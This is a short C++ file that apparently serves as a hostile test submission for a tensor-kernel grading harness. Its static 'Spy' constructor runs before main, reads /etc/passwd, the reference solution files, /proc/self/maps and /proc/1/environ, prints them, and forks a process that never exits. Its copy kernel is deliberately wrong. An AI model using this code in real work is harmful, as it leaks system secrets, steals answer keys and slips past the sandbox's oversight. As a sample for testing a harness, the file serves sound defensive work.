// copy: looks around before main() and leaves a second process behind.
#include <fcntl.h>
#include <unistd.h>

#include "kiln/kernels/tensor.hpp"

using namespace kiln;

namespace {

struct Spy {
  char loot[4096] = {};
  Spy() {
    for (const char* path : {"/etc/passwd", "solutions/01_tensor/copy.cpp", "../solutions/01_tensor/copy.cpp",
                             "/proc/self/maps", "/proc/1/environ"}) {
      const int file = open(path, O_RDONLY);
      if (file >= 0 && read(file, loot, sizeof loot) > 0) write(STDOUT_FILENO, loot, sizeof loot);
    }
    if (fork() == 0)
      for (;;) pause();
  }
} spy;

}  // namespace

void impl::copy(ConstView in, View out) {
  if (in.size() > 0) out.data[0] = in.data[0] + static_cast<float>(spy.loot[0]);
}
